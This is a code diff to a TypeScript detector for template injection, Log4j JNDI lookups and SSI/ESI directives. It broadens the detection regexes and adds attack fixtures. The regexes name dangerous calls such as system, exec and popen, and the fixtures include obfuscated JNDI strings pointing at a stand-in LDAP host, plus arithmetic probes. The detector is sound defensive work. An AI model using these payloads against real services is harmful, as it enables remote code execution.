@@ -6,7 +6,7 @@ import { WORD } from '../words.ts'
 
 /** What a template reaches out of its own data with. */
 const OBJECTS =
-  /__(?:[a-z]{2,16}__|class|init|proto|subclasses|globals|mro|import)|_{0,2}["']\s{0,2}\+\s{0,2}["']\w{1,12}__|\\x5f|\|\s{0,4}attr\s{0,2}\(|["'][^"'{}]{0,16}["']\s{0,2}(?:\.\w{1,24}\(|\[\s{0,2}["'])|\b(?:source|constant|file_excerpt|url_for|mro|print)\s{0,2}\(|lookup\s{1,4}[\w.]{1,16}\s{1,4}["']?constructor|\b(?:printf|html|js)\s{1,4}"|\.constructor\b|constructor\(|\bconfig\b\s{0,4}[.}|]|\bsecret_key\b|\bdebug\s{0,4}-?%|request\.(?:application|environ|__)|\bself\b(?:\.(?:_|module|template|context)|\s{0,2}\})|dir\.entries|\{\s{0,4}call\s{1,4}\.\w|lipsum|cycler|joiner|namespace\((?!\s{0,4}\w{1,40}\s{0,4}=)|getclass|forname|java\.|t\(\s{0,4}java|new\s{1,4}java|runtime|@java|system\(|exec\(|popen|_self\.env|registerundefined|\|\s{0,4}(?:filter|map|reduce|sort)\s{0,4}\((?!\s{0,4}attribute\s{0,4}=\s{0,4}["'][\w.]{1,60}["'])|\.class\.|include\s{1,4}(?!["'][\w./-]{1,80}["']\s{1,4}[.$(])|dump\(|app\.request|signer\.key|get_admin_log|\|\s{0,4}(?:system|exec|passthru|shell_exec|popen|eval)\b|\{#with\s{1,4}["']|\{\s{0,4}\.system\b|require\(|global\.|root\.|mainmodule|@(?!media)[a-z]{1,24}\(/
+  /__(?:[a-z]{2,16}__|class|init|proto|subclasses|globals|mro|import)|_{0,2}["']\s{0,2}\+\s{0,2}["']\w{1,12}__|\\x5f|\|\s{0,4}attr\s{0,2}\(|["'][^"'{}]{0,16}["']\s{0,2}(?:\.\w{1,24}\(|\[\s{0,2}["'])|\b(?:source|constant|file_excerpt|url_for|mro|print)\s{0,2}\(|(?<=\{[{&~^#>]{1,3}\s{0,4})constructor\s{0,2}[.}~]|lookup\s{1,4}[\w.]{1,16}\s{1,4}["']?constructor|\b(?:printf|html|js)\s{1,4}"|\.constructor\b|constructor\(|\bconfig\b\s{0,4}[.}|]|\bsecret_key\b|\bdebug\s{0,4}-?%|request\.(?:application|environ|__)|\bself\b(?:\.(?:_|module|template|context)|\s{0,2}\})|dir\.entries|\{\s{0,4}call\s{1,4}\.\w|lipsum|cycler|joiner|namespace\((?!\s{0,4}\w{1,40}\s{0,4}=)|getclass|forname|java\.|t\(\s{0,4}java|new\s{1,4}java|runtime|@java|system\(|exec\(|popen|_self\.env|registerundefined|\|\s{0,4}(?:filter|map|reduce|sort)\s{0,4}\((?!\s{0,4}attribute\s{0,4}=\s{0,4}["'][\w.]{1,60}["'])|\.class\.|include\s{1,4}(?!["'][\w./-]{1,80}["']\s{1,4}[.$(])|dump\(|app\.request|signer\.key|get_admin_log|\|\s{0,4}(?:system|exec|passthru|shell_exec|popen|eval)\b|\{#with\s{1,4}["']|\{\s{0,4}\.system\b|require\(|global\.|root\.|mainmodule|@(?!media)[a-z]{1,24}\(|\b(?:eval|globals|locals|vars|__dirname|send|public_send|const_get|instance_eval|instance_variables|spawn|getattr)\s{0,2}\(|\bopen\s{0,2}\(\s{0,2}[\x22'|]|\bhandler\.(?:settings|application|request|get_)|\benv(?:\.to_h|\[\s{0,2}[\x22'])|[\x22'\])}]\s{0,2}\.\s{0,2}(?:class|bytes|chars|type)\b|\b\d{1,4}\.(?:class|type)\b|[\x22'`[/]constructor\b|\?(?:new|api|eval|interpret|lower_abc)\b|\bt\s{0,2}\(\s{0,2}(?:string|character|system|runtime)\s{0,2}\)|\bprocess\s{0,2}\[|#(?:ctx|context|attr|application|session|request|_memberaccess|response|parameters)\b|\b(?:beans|systemproperties|systemenvironment)\s{0,2}\[|@(?:environment|systemproperties|systemenvironment)\b|\b(?:session|request)\.(?:getservletcontext|servletcontext|getclass)|invokeexactmethod|\.(?:getbytes|getdeclared\w{1,16}|sub\.|at\.)|this\[\s{0,2}[\x22'`]|\breflect\.(?:get|construct|apply)\b|\bescapefn\b|\|\s{0,4}(?:file_read|constantize)\b/
     .source
 
 /** How far from where a template begins it names an object. */
@@ -17,7 +17,7 @@ const OF_PROGRAMS =
   'process\\.|this\\.(?:_|constructor|process|global|require|pop|push|env|getclass|class|\\w{1,40}\\()'
 // Ruby runs what stands between backticks, wherever in its marks.
 const inMarks = foundWithin({
-  opening: /#\{|<%=?|\{%|\[\[\$|\*\{/,
+  opening: /[#!@~]\{|<%=?|\{%|\[\[\$|\*\{|%\{(?!\[)/,
   inside: new RegExp(`${OBJECTS}|${OF_PROGRAMS}|\``),
   reach: REACH,
   barriers: BARRIERS,
@@ -46,6 +46,20 @@ function findObject({ lower }: Reading): Span | undefined {
   return first
 }
 
+/** A number in a sum with which people try what a page computes. */
+const NUMBER = '[(+-]{0,3}[\'"]?(?:0x[\\da-f]{1,8}|\\d{1,10}(?:\\.\\d{0,6}|e\\d)?)[\'"]?\\)?'
+const MARKS =
+  '\\{\\{[{=:>!~*&^-]{0,2}|[$#!*~@%]\\{|\\$!\\{|<%[=-]|\\{%-?\\s{0,4}(?:print|set\\s{1,4}\\w{1,12}\\s{0,2}=|(?:el)?if)|<\\?=|\\{!!'
+const OPERATION = '\\s{0,4}(?:\\*{1,2}|/{1,2}|\\+|%|~|<<|>>|(?:mul|times|div)\\s)\\s{0,4}'
+const SUM = new RegExp(
+  [
+    /(?:\{\{|\$\{|#\{|<%=?|\[\[|@\(|\{%=?|\{\{=|<%-|[*~@]\{|^\{|\$\[|#set\()\s{0,8}[('"]{0,2}\d{1,10}['"]?\s{0,4}[*+/-]\s{0,4}['"]?\d{1,10}[)'"]{0,2}\s{0,8}(?:\}|%[>}]|\]|\))/
+      .source,
+    // What goes on behind it, too.
+    `(?:${MARKS})\\s{0,8}${NUMBER}${OPERATION}${NUMBER}\\s{0,4}(?:[|*+/%~)-]|%?\\}|%>|!!|\\?>|#)`,
+  ].join('|'),
+)
+
 /** Template and expression languages, Log4j lookups, server-side includes. */
 export const templateRules: readonly Rule[] = [
   // The expression language of Java behind what a filter of `${` does not know (CVE-2020-10199).
@@ -59,7 +73,7 @@ export const templateRules: readonly Rule[] = [
   // Not quotable: whoever logs the document looks it up.
   pattern(
     'template/jndi',
-    /\$\s{0,4}\{(?:[^{}]{0,48}\$\{[^{}]{0,48}\}){0,6}[^{}]{0,32}(?:j\$\{|jndi|(?:lower|upper):[^}\s]{1,3}\}|::-|:[\w.]{0,24}:-[a-z]\})/,
+    /\$\s{0,4}\{(?:[^{}]{0,48}\$\{[^{}]{0,48}\}){0,6}[^{}]{0,32}(?:j\$\{|jndi|(?:lower|upper):[^}\s]{1,3}\}|::-|\{:-[a-z]|:[\w.]{0,24}:-[a-z]\})/,
     {
       score: 6,
       chars: CHAR.dollar,
@@ -70,6 +84,7 @@ export const templateRules: readonly Rule[] = [
         '${${env:NONE:-j}ndi:dns://x}',
         '$ {jndi:ldap://x}',
         '${jnd${upper:i}:ldap://x/a}',
+        '${${:-j}${:-n}di:ldap://x/a}',
       ],
       benign: ['${total}', '{jndi}', 'jndi: a directory', '${A:-${B}}', '${lower: the price}', '${env:HOME}'],
     },
@@ -86,31 +101,34 @@ export const templateRules: readonly Rule[] = [
       benign: ['${total}', '{jndi}', 'costs ${price}'],
     },
   ),
-  pattern(
-    'template/arithmetic',
-    /(?:\{\{|\$\{|#\{|<%=?|\[\[|@\(|\{%=?|\{\{=|<%-|[*~@]\{|^\{|\$\[|#set\()\s{0,8}[('"]{0,2}\d{1,10}['"]?\s{0,4}[*+/-]\s{0,4}['"]?\d{1,10}[)'"]{0,2}\s{0,8}(?:\}|%[>}]|\]|\))/,
-    {
-      score: 6,
-      quotable: true,
-      chars: CHAR.brace | CHAR.percent | CHAR.bracket | CHAR.paren,
-      attacks: [
-        '${(111+111)}',
-        '@{7*7}',
-        '{{=7*7}}',
-        '{7*7}',
-        '{{7*7}}',
-        '${7*7}',
-        '#{16*8787}',
-        '<%= 7*7 %>',
-        "{{7*'7'}}",
-      ],
-      benign: ['{{ count }}', '${i}', '{1, 2}'],
-    },
-  ),
+  pattern('template/arithmetic', SUM, {
+    score: 6,
+    quotable: true,
+    chars: CHAR.brace | CHAR.percent | CHAR.bracket | CHAR.paren,
+    attacks: [
+      '${(111+111)}',
+      '@{7*7}',
+      '{{=7*7}}',
+      '{7*7}',
+      '{{7*7}}',
+      '${7*7}',
+      '#{16*8787}',
+      '<%= 7*7 %>',
+      "{{7*'7'}}",
+      '{{7**7}}',
+      '${7*7*7}',
+      '{%print 7*7%}',
+      '{%- if 7*7 %}',
+      '<%= 7<<1 %>',
+      '{{:0x7*7}}',
+      '{{!!7*7!!}}',
+    ],
+    benign: ['{{ count }}', '${i}', '{1, 2}', '{{2024-05-01}}', '${1:-2}', '{{ a * 2 }}', '{% if 7 %}'],
+  }),
   {
     id: 'template/object',
     family: 'template',
-    requires: [[['{{', '#{', '<%', '{%', '[[$', '*{', '${']]],
+    requires: [[['{{', '#{', '<%', '{%', '[[$', '*{', '${', '!{', '@{', '~{', '%{']]],
     find: findObject,
     score: 5,
     quotable: true,
@@ -163,7 +181,7 @@ export const templateRules: readonly Rule[] = [
   ),
   pattern(
     'template/freemarker',
-    /<#(?:assign|include|import|list)\s|freemarker\.template|\?new\(\)|#set\s{0,4}\(\s{0,4}\$|#(?:foreach|include|parse)\s{0,4}\(|\$class\.inspect|\$(?:session|request|response|application|servletcontext|context|class)\.(?:get|set|inspect)\w{0,24}\(|\{php\}|\[php\]|\{literal\}|\{\$?smarty[._]|\{self::|#evaluate\s{0,2}\(|^\s{0,4}@\{\s{0,4}(?:var|string|int)\s|\$\{\{<%|<%=?\{\{|\{system\(|\{if\s{1,4}[a-z_]{1,24}\(|\{if:[^}\n]{0,24}\)|\{if:[^}\n]{0,64}\(|\{end if\}\s{0,4}\{if:|\{\w{2,16}:if\s{0,2}\(/,
+    /<#(?:assign|include|import|list|local|global|function|attempt|setting)\s|<@\(|\$\{\.(?:data_model|get_optional_template|main|globals)\b|#\{set\}\s{0,4}\(|#@set\s{0,4}\(|#(?:if|foreach|define|macro|set|evaluate)\s{0,4}\([^()\n]{0,40}?\)?[^()\n]{0,24}\$!?\{?\w{1,24}\.(?:class\b|getclass\b)|freemarker\.template|\?new\(\)|#set\s{0,4}\(\s{0,4}\$|#(?:foreach|include|parse)\s{0,4}\(|\$class\.inspect|\$(?:session|request|response|application|servletcontext|context|class)\.(?:get|set|inspect)\w{0,24}\(|\{php\}|\[php\]|\{literal\}|\{\$?smarty[._]|\{self::|#evaluate\s{0,2}\(|^\s{0,4}@\{\s{0,4}(?:var|string|int)\s|\$\{\{<%|<%=?\{\{|\{system\(|\{if\s{1,4}[a-z_]{1,24}\(|\{if:[^}\n]{0,24}\)|\{if:[^}\n]{0,64}\(|\{end if\}\s{0,4}\{if:|\{\w{2,16}:if\s{0,2}\(/,
     {
       score: 5,
       quotable: true,
@@ -202,7 +220,7 @@ export const templateRules: readonly Rule[] = [
   ),
   pattern(
     'ssi/directive',
-    /<!--\s{0,4}#\s{0,4}(?:exec|include|echo|config|printenv|set|fsize|flastmod|if)\b|<esi:(?:include|vars|debug)|<!--esi/,
+    /<!--\s{0,4}#\s{0,4}(?:exec|include|echo|config|printenv|set|fsize|flastmod|if)\b|<esi\s{0,2}:\s{0,2}[a-z]|<!--esi|\$\(http_(?:cookie|host|user_agent|referer|accept_language)\b/,
     {
       score: 6,
       quotable: true,
